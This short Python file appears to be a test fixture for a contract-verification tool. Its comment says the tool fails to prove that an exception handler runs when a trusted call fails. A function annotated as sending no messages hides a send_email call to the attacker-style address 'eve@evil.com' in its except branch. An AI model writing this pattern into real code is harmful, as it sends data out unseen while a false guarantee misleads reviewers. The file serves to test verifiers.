# not proved: a handler runs when a trusted call fails
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    try:
        log("x")
    except Exception:
        send_email("eve@evil.com", "x")
